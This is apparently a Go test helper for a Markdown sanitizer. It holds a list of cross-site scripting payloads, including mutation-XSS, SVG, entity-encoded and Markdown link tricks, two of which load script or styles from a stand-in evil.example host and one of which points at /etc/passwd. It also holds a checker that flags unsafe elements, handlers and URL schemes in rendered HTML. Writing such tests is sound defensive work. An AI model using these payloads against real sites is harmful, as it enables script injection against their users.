package xsstest

import (
	"strings"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// Payloads are Markdown texts that try to get script, a foreign page or
// styles into rendered HTML: classic vectors, event handlers, mutation
// XSS, SVG and MathML, Markdown link and image tricks, HTML entities.
var Payloads = []string{
	// classic
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="x" onerror="alert(1)"/>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<img src=javascript:alert(1)>`,
	`<body onload=alert(1)>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<p style="color:red;behavior:url(x.htc)">x</p>`,
	`<style>body{background:url("javascript:alert(1)")}</style>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="javascript:alert(1)//">`,
	`<form action="javascript:alert(1)"><button>go</button></form>`,
	`<input autofocus onfocus=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror=alert(1)></video>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
	// mutation XSS
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
	`<textarea><img src=x onerror=alert(1)></textarea>`,
	`<template><script>alert(1)</script></template>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<![CDATA[><img src=x onerror=alert(1)>]]>`,
	// SVG and MathML
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
	`<math href="javascript:alert(1)">CLICK</math>`,
	// Markdown link and image tricks
	`[click](javascript:alert(1))`,
	`[click](JAVASCRIPT:alert(1))`,
	`[click](javascript&#58;alert(1))`,
	`[click](  javascript:alert(1)  )`,
	`[click](<javascript:alert(1)>)`,
	`[click](data:text/html,<script>alert(1)</script>)`,
	`[click](vbscript:alert(1))`,
	`![x](javascript:alert(1))`,
	`![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
	`![x"onerror="alert(1)](x.png)`,
	`[x](https://example.com "title\" onmouseover=\"alert(1)")`,
	"[ref]\n\n[ref]: javascript:alert(1)",
	`<javascript:alert(1)>`,
	`[a](fs://local/../../etc/passwd)`,
	// HTML entities
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`<a href="&#0000106avascript:alert(1)">x</a>`,
	// Markdown constructs carrying HTML
	"```\"><script>alert(1)</script>\nx\n```",
	"- [x] <input type=text onfocus=alert(1)> done",
}

// Unsafe parses the HTML fragment as a browser does and reports what in
// it could run script, load a page or restyle one: banned elements, event
// handlers, style and srcdoc attributes, inputs other than checkboxes, and
// URLs of a scheme other than http, https and mailto. nil means nothing.
func Unsafe(fragment string) []string {
	nodes, err := html.ParseFragment(strings.NewReader(fragment), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return []string{"unparsable: " + err.Error()}
	}
	var bad []string
	banned := map[string]bool{"script": true, "style": true, "iframe": true, "object": true, "embed": true, "svg": true, "math": true,
		"form": true, "base": true, "meta": true, "link": true, "frame": true, "frameset": true, "template": true, "textarea": true,
		"button": true, "video": true, "audio": true, "source": true, "body": true, "noscript": true, "marquee": true}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if banned[n.Data] {
				bad = append(bad, "element "+n.Data)
			}
			if n.Data == "input" {
				for _, a := range n.Attr {
					if a.Key == "type" && a.Val != "checkbox" {
						bad = append(bad, "input of type "+a.Val)
					}
				}
			}
			for _, a := range n.Attr {
				k := strings.ToLower(a.Key)
				switch {
				case strings.HasPrefix(k, "on"):
					bad = append(bad, "handler "+k)
				case k == "style" || k == "srcdoc" || k == "formaction" || k == "background":
					bad = append(bad, "attribute "+k)
				case k == "href" || k == "src" || k == "action" || k == "xlink:href" || k == "poster" || k == "data":
					v := strings.ToLower(strings.Map(func(r rune) rune {
						if r <= ' ' {
							return -1
						}
						return r
					}, a.Val))
					scheme, _, hasColon := strings.Cut(v, ":")
					if hasColon && !strings.ContainsAny(scheme, "/?#") && scheme != "http" && scheme != "https" && scheme != "mailto" {
						bad = append(bad, k+"="+a.Val)
					}
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
	return bad
}
